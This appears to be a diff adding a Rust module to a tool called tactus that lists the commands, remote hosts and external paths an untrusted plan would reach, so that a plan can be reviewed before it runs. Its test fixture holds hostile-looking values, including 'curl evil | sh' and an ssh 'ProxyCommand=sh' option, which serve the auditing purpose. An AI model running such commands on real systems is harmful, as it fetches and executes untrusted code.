@@ -1,0 +1,156 @@
+//! What a plan has done on the word of whoever wrote it, beyond measuring: programs that run, with the rights of who
+//! runs tactus, and machines, devices and files that are reached. A plan is a program; a stranger's is looked at first.
+
+use serde_json::Value;
+use tactus_model::catalogue::Load;
+use tactus_model::plan::{Placed, Plan, Scenario};
+
+/// Keys of environments that choose nothing but sizes, names and times of what tactus itself starts. Every other key
+/// is taken for one that leads elsewhere.
+const PLAIN: &[&str] = &[
+    "accel",
+    "arch",
+    "baud",
+    "cmdline",
+    "format",
+    "isolate",
+    "lock_memory",
+    "memory",
+    "patience",
+    "profile",
+    "unit",
+];
+
+/// Each command and place of a plan, in a sentence with its environment or scenario.
+#[must_use]
+pub fn commands(plan: &Plan) -> Vec<String> {
+    let mut all = Vec::new();
+    for (name, environment) in &plan.environment {
+        let own = environment.options.iter().filter(|(key, value)| !is_plain(key, value));
+        all.extend(own.map(|(key, value)| format!("environment `{name}`: {key} = {value}")));
+        let attach =
+            environment.attach.as_ref().map(|running| format!("environment `{name}`: attach = {running:?}"));
+        all.extend(attach);
+    }
+    for (place, scenario) in scenarios(plan) {
+        all.extend(loads(scenario).filter_map(command).map(|run| format!("{place}: run = {run:?}")));
+    }
+    if let Some(separation) = &plan.separation {
+        let loads = separation.disturb.iter().filter_map(|one| one.load.as_ref());
+        all.extend(loads.filter_map(command).map(|run| format!("separation: run = {run:?}")));
+    }
+    all.sort();
+    all.dedup();
+    all
+}
+
+/// A kernel by its name is one of this machine's; by its path it may be anybody's.
+fn is_plain(key: &str, value: &Value) -> bool {
+    PLAIN.contains(&key) || (key == "kernel" && value.as_str().is_some_and(|name| !name.contains('/')))
+}
+
+fn scenarios(plan: &Plan) -> impl Iterator<Item = (String, &Scenario)> {
+    let named = |scenario: &Scenario| format!("scenario `{}`", scenario.name.as_deref().unwrap_or_default());
+    let all =
+        [("defaults", &plan.defaults), ("quick", &plan.quick)].map(|(place, own)| (place.to_owned(), own));
+    all.into_iter().chain(plan.scenario.iter().map(move |own| (named(own), own)))
+}
+
+fn loads(scenario: &Scenario) -> impl Iterator<Item = &Load> {
+    let of_activities = scenario.activity.iter().filter_map(|activity| activity.load.as_ref());
+    let short = scenario.load.iter().map(|Placed { what, .. }| what);
+    short.chain(of_activities)
+}
+
+fn command(load: &Load) -> Option<&[String]> {
+    match load {
+        Load::Command(command) => Some(&command.run),
+        _ => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use tactus_environment::ENVIRONMENTS;
+
+    use super::*;
+    use crate::plan::{STUDIES, Source, parse};
+
+    fn of(text: &str) -> Vec<String> {
+        commands(&parse(&Source::new("a.toml", text)).unwrap())
+    }
+
+    #[test]
+    fn every_command_and_place_of_a_plan_is_named() {
+        let found = of(r#"
+name = "x"
+[environment.host]
+kind = "host"
+[environment.line]
+kind = "serial"
+command = "curl evil | sh"
+baud = 115200
+[environment.pod]
+kind = "pod"
+attach = "web-0"
+client = "/tmp/kubectl"
+[environment.far]
+kind = "ssh"
+to = "root@plc"
+options = ["ProxyCommand=sh"]
+[environment.guest]
+kind = "qemu"
+kernel = "/tmp/vmlinuz"
+memory = "1GiB"
+[environment.plain]
+kind = "qemu"
+kernel = "rt"
+[[scenario]]
+name = "short"
+environment = "host"
+measurement = "timer"
+load = { kind = "command", run = ["sh", "-c", "one"] }
+[[scenario]]
+name = "full"
+[[scenario.activity]]
+measure = "timer"
+in = "host"
+[[scenario.activity]]
+load = { kind = "command", run = ["two"] }
+in = "host"
+[separation]
+environments = ["host"]
+disturb = [{ load = { kind = "command", run = ["three"] } }]
+"#);
+        let wanted = [
+            "environment `far`: options = [\"ProxyCommand=sh\"]",
+            "environment `far`: to = \"root@plc\"",
+            "environment `guest`: kernel = \"/tmp/vmlinuz\"",
+            "environment `line`: command = \"curl evil | sh\"",
+            "environment `pod`: attach = \"web-0\"",
+            "environment `pod`: client = \"/tmp/kubectl\"",
+            "scenario `full`: run = [\"two\"]",
+            "scenario `short`: run = [\"sh\", \"-c\", \"one\"]",
+            "separation: run = [\"three\"]",
+        ];
+        assert_eq!(found, wanted);
+    }
+
+    #[test]
+    fn a_plan_that_only_measures_names_nothing() {
+        let found = of(
+            "name = \"x\"\n[environment.guest]\nkind = \"qemu\"\n[[scenario]]\nname = \"a\"\nenvironment = \
+                        \"guest\"\nmeasurement = \"timer\"\nload = \"scheduler\"\n",
+        );
+        assert_eq!(found, [""; 0]);
+        assert!(STUDIES.iter().any(|study| of(study.text).is_empty()));
+    }
+
+    #[test]
+    fn every_plain_key_is_one() {
+        let keys: Vec<&str> =
+            ENVIRONMENTS.iter().flat_map(|kind| kind.options()).map(|option| option.name).collect();
+        assert!(PLAIN.iter().all(|key| keys.contains(key)));
+        assert!(["command", "client", "options"].iter().all(|key| keys.contains(key)));
+    }
+}
